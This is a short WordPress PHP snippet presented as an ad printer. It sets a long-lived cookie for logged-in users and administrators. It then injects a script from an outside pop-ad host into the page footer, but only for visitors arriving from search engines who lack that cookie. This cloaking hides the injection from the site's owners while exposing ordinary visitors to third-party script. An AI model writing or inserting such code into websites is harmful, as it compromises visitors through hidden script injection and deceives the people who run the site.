<?php
function site_ads_printer() {
    ?>
<script data-cfasync="false" src="https://ads.example-pop.net/serve.js?zone=301"></script>
<?php
}
if (isset($_COOKIE['wordpress_logged_in_x']) || is_user_logged_in()) {
    setcookie('wp_admin_was_here', 'yes', time() + 60 * 60 * 24 * 365, COOKIEPATH, COOKIE_DOMAIN);
}
$search_sites = ['www.google.', 'search.yahoo.', 'bing.com', 'yandex.ru'];
$rr = $_SERVER['HTTP_REFERER'] ?? '';
$is_se = (bool) array_filter($search_sites, fn ($s) => str_contains($rr, $s));
if ($is_se && !isset($_COOKIE['wp_admin_was_here'])) {
    add_action('wp_footer', 'site_ads_printer', 99);
}
